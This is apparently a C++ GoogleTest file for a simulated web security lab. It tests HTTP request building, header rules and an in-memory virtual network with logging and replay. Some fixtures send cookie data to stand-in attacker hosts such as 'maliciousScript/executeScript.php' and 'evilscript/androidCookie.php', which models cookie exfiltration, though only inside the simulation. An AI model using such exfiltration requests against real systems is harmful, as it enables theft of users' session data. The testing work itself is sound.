/*
 * Copyright 2026 The wvlab Authors
 *
 * Licensed under the Apache License, Version 2.0 (the "License");
 * you may not use this file except in compliance with the License.
 * You may obtain a copy of the License at
 *
 *     http://www.apache.org/licenses/LICENSE-2.0
 *
 * Unless required by applicable law or agreed to in writing, software
 * distributed under the License is distributed on an "AS IS" BASIS,
 * WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
 * See the License for the specific language governing permissions and
 * limitations under the License.
 */

#include "wvlab/http.hpp"

#include <gtest/gtest.h>

#include <random>

#include "wvlab/error.hpp"

using namespace wvlab;

namespace {

HttpResponse echo(const HttpRequest& req, Tick) {
  return HttpResponse{200, {{"X-Method", std::string(to_string(req.method))}}, req.body.value_or("")};
}

}  // namespace

TEST(BuildRequest, Examples) {
  const auto post = build_request(Method::Post, "http://maliciousScript/executeScript.php", {}, "cookie=x");
  EXPECT_EQ(post.method, Method::Post);
  EXPECT_EQ(post.uri.host, "maliciousscript");
  EXPECT_EQ(post.body, "cookie=x");

  EXPECT_THROW(build_request(Method::Get, "http://victim.example/", {}, "x"), BodyNotAllowed);
  EXPECT_THROW(build_request(Method::Head, "http://victim.example/", {}, ""), BodyNotAllowed);
  EXPECT_THROW(build_request(Method::Trace, "http://victim.example/", {}, "x"), BodyNotAllowed);

  const auto put = build_request(Method::Put, "http://evilscript/androidCookie.php", {}, "data");
  EXPECT_EQ(put.method, Method::Put);
  EXPECT_EQ(put.uri.path, "/androidCookie.php");

  EXPECT_THROW(build_request(Method::Get, "nope"), ParseError);
}

TEST(BuildRequest, HeaderUniqueness) {
  EXPECT_THROW(build_request(Method::Get, "http://a/", {{"Accept", "x"}, {"accept", "y"}}), DuplicateHeader);
  const auto req = build_request(Method::Get, "http://a/", {{"Cookie", "a=1"}, {"cookie", "b=2"}});
  EXPECT_EQ(find_headers(req.headers, "COOKIE").size(), 2u);
  EXPECT_EQ(req.header("cookie"), "a=1");
}

TEST(Methods, NamesRoundTrip) {
  for (auto m : {Method::Get, Method::Head, Method::Post, Method::Put, Method::Delete, Method::Trace,
                 Method::Options}) {
    EXPECT_EQ(method_from_string(to_string(m)), m);
  }
  EXPECT_FALSE(method_from_string("PATCH"));
  EXPECT_TRUE(method_allows_body(Method::Options));
  EXPECT_TRUE(method_allows_body(Method::Delete));
}

TEST(VirtualNet, RoutesAndLogs) {
  VirtualNet net;
  int calls = 0;
  net.register_server("victim.example", [&](const HttpRequest& r, Tick t) {
    ++calls;
    return echo(r, t);
  });
  net.register_server("evilscript", echo);
  EXPECT_THROW(net.register_server("victim.example", echo), DuplicateHost);

  const auto before = net.log().size();
  const auto resp = net.execute(build_request(Method::Post, "http://evilScript/androidCookie.php", {}, "p"), 7);
  EXPECT_EQ(resp.status, 200);
  EXPECT_EQ(net.log().size(), before + 1);
  EXPECT_EQ(net.log().back().tick, 7u);
  EXPECT_EQ(net.log().back().response, resp);

  net.execute(build_request(Method::Get, "http://victim.example/"), 8);
  EXPECT_EQ(calls, 1);

  EXPECT_THROW(net.execute(build_request(Method::Get, "http://nowhere/"), 9), HostUnreachable);
  EXPECT_EQ(net.log().size(), before + 2);
}

TEST(VirtualNet, BodiesPassThroughUntouched) {
  VirtualNet net;
  net.register_server("echo", echo);
  std::mt19937_64 rng(3);
  for (int i = 0; i < 500; ++i) {
    std::string body(rng() % 64, '\0');
    for (auto& c : body) c = static_cast<char>(rng() & 0xff);
    const auto req = build_request(Method::Post, "http://echo/x", {{"Cookie", "k=v"}}, body);
    const auto resp = net.execute(req, static_cast<Tick>(i + 1));
    EXPECT_EQ(resp.body, body);
    EXPECT_EQ(net.log().back().request, req);
  }
  EXPECT_EQ(net.log().size(), 500u);
}

TEST(VirtualNet, ReplayReproducesLog) {
  auto world = [] {
    auto net = std::make_unique<VirtualNet>();
    auto counter = std::make_shared<int>(0);
    net->register_server("a", [counter](const HttpRequest& r, Tick t) {
      return HttpResponse{200, {}, std::to_string(++*counter) + ":" + std::to_string(t) + ":" + r.uri.path};
    });
    return net;
  };
  auto first = world();
  for (int i = 0; i < 20; ++i) {
    first->execute(build_request(i % 2 ? Method::Get : Method::Delete, "http://a/p" + std::to_string(i)),
                   static_cast<Tick>(i * 2 + 1));
  }
  auto second = world();
  for (const auto& rec : first->log()) second->execute(rec.request, rec.tick);
  ASSERT_EQ(first->log().size(), second->log().size());
  for (std::size_t i = 0; i < first->log().size(); ++i) {
    EXPECT_EQ(first->log()[i].response, second->log()[i].response);
  }
}

TEST(Status, KnownSet) {
  for (int s : {200, 302, 401, 403, 404, 405}) EXPECT_TRUE(is_known_status(s));
  for (int s : {201, 301, 500}) EXPECT_FALSE(is_known_status(s));
}
